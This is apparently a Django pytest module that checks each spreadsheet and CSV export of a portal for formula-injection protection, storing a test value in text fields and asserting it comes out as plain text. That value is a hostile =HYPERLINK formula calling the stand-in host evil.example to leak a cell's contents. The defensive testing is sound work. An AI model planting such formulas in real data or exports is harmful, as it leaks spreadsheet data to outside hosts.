"""Every Excel and CSV export neutralises text a spreadsheet would run (= + - @ tab CR): a
malicious value stored in a text field comes out as plain text (a leading apostrophe), never as a
formula. One case per export endpoint of the portal; each goes through portal.spreadsheets
(`safe` per cell, `csv_cell`, and `save` neutralising the whole workbook before it is written).
"""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from exchange.models import Mapping
from incentives.models import Policy
from patents.models import Patent
from patents.tests.test_pool import number
from portal import services as portal_services
from portal import spreadsheets
from portal.models import Organisation, Region, Role
from portal.tests.factories import (
    ApplicantFactory,
    CityAgencyFactory,
    OrganisationFactory,
    UserFactory,
)
from projects.models import Call
from projects.tests import factories as pf
from reporting import services as reporting_services
from reporting.models import DataElement, ExportJob, Indicator, ReturnForm

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture(autouse=True)
def _english_and_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    with translation.override("en"):
        yield


def cells_of(response) -> list[str]:
    """Every text cell of the file an export answered with."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        text = content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    book = load_workbook(io.BytesIO(content))  # formulas as written, not computed values
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


# One set-up per export: it stores EVIL in a text field the export writes, logs a user in who may
# export, and returns the response.


def _audit_csv(client, django_capture_on_commit_callbacks):
    portal_services.audit_record(actor=None, actor_label=EVIL, event="test.event", reason=EVIL)
    client.force_login(UserFactory(role=Role.AUDIT_ADMIN))
    return client.get(reverse("portal:audit_list"), {"format": "csv"})


def _ranking(client, django_capture_on_commit_callbacks):
    reviewer = pf.reviewer()
    call = pf.open_call(reviewer, categories=(3,))
    Call.objects.filter(pk=call.pk).update(title=EVIL)  # the sheet's footer names the call
    pf.scored(call, [80, 80, 80], actor=reviewer, title=EVIL)
    client.force_login(reviewer)
    return client.get(reverse("projects:ranking_export", args=[pf.lot(call, 3).pk]))


def _university():
    return ApplicantFactory(
        organisation=OrganisationFactory(
            kind=Organisation.Kind.UNIVERSITY, region=Region.objects.get(code="610100")
        )
    )


def _patent(owner, **fields) -> Patent:
    values = {
        "title": EVIL, "kind": Patent.Kind.INVENTION, "status": Patent.Status.VALID,
        "filed_on": date(2021, 3, 1), "granted_on": date(2023, 6, 2), "ipc": "C23C24/10",
        "screened_at": datetime(2025, 3, 10, 2, 0, tzinfo=UTC), "tier": "A", "industry": "04",
        "screen_note": EVIL,
    }  # fmt: skip
    return Patent.objects.create(number=number(7), owner=owner, **(values | fields))


def _patent_pool(client, django_capture_on_commit_callbacks):
    university = _university()
    _patent(university.organisation)
    client.force_login(university)
    return client.get(reverse("patents:export"))


def _spending(client, django_capture_on_commit_callbacks):
    Policy.objects.filter(code="first-set").update(title=EVIL)
    client.force_login(UserFactory(role=Role.REVIEWER))
    return client.get(reverse("incentives:spending_export"), {"year": "2025"})


def _stat_return():
    DataElement.objects.filter(code="TRAININGS").update(name=EVIL)
    agency = CityAgencyFactory()
    stat_return = reporting_services.return_open(
        actor=agency, form=ReturnForm.objects.get(code="QUARTERLY"),
        region=Region.objects.get(code="610900"), period="2025Q2",
    )  # fmt: skip
    return agency, stat_return


def _return_template(client, django_capture_on_commit_callbacks):
    agency, stat_return = _stat_return()
    client.force_login(agency)
    return client.get(reverse("reporting:return_template", args=[stat_return.pk]))


def _return_export(client, django_capture_on_commit_callbacks):
    agency, stat_return = _stat_return()
    client.force_login(agency)
    return client.get(reverse("reporting:return_export", args=[stat_return.pk]))


def _dashboard(client, django_capture_on_commit_callbacks):
    Indicator.objects.update(name=EVIL)
    client.force_login(UserFactory(role=Role.REVIEWER))
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reporting:dashboard_export", args=["610000"]), {"period": ""})
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.DONE, job.status
    return client.get(reverse("reporting:export_download", args=[job.pk]))


def _exchange(fmt):
    def export(client, django_capture_on_commit_callbacks):
        _patent(_university().organisation)
        mapping = Mapping.objects.get(code="stock-patent-registration", is_active=True)
        client.force_login(UserFactory(role=Role.REVIEWER))
        return client.get(reverse("exchange:export", args=[mapping.pk]), {"fmt": fmt})

    return export


EXPORTS = [
    ("audit-log-csv", _audit_csv),
    ("projects-ranking-xlsx", _ranking),
    ("patents-pool-xlsx", _patent_pool),
    ("incentives-spending-xlsx", _spending),
    ("reporting-return-template-xlsx", _return_template),
    ("reporting-return-export-xlsx", _return_export),
    ("reporting-dashboard-xlsx", _dashboard),
    ("exchange-export-xlsx", _exchange("xlsx")),
    ("exchange-export-csv", _exchange("csv")),
]


@pytest.mark.parametrize(("export", "setup"), EXPORTS, ids=[e[0] for e in EXPORTS])
def test_every_export_writes_a_formula_as_plain_text(
    client, django_capture_on_commit_callbacks, export, setup
):
    response = setup(client, django_capture_on_commit_callbacks)
    assert response.status_code == 200, export
    assert response["Content-Disposition"].startswith("attachment; filename=")
    cells = cells_of(response)
    assert not [c for c in cells if c.lstrip().startswith("=HYPERLINK")], export
    assert [c for c in cells if c.startswith("'=HYPERLINK")], export


def test_the_patent_template_holds_no_formula():
    """The one export with no stored text: the template's fixed headers and example row."""
    from patents import exporters

    book = load_workbook(io.BytesIO(exporters.patent_template()))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_neutralised(start):
    value = f"{start}1+1"
    assert spreadsheets.safe(value) == f"'{value}"
    assert spreadsheets.csv_cell(value) == f"'{value}"
    book = Workbook()
    book.active["A1"] = value  # openpyxl would store "=1+1" as a formula
    book.active.cell(row=2, column=1, value=f"note {value}")
    saved = load_workbook(io.BytesIO(spreadsheets.save(book)))
    assert saved.active["A1"].value in {f"'{value}", f"'{value}".replace("\r", "\n")}
    assert saved.active["A1"].data_type == "s"
    assert saved.active["A2"].value.startswith("note ")  # text inside a cell stays as it is
    assert spreadsheets.csv_cell(-5) == "-5"  # a negative number is not a formula
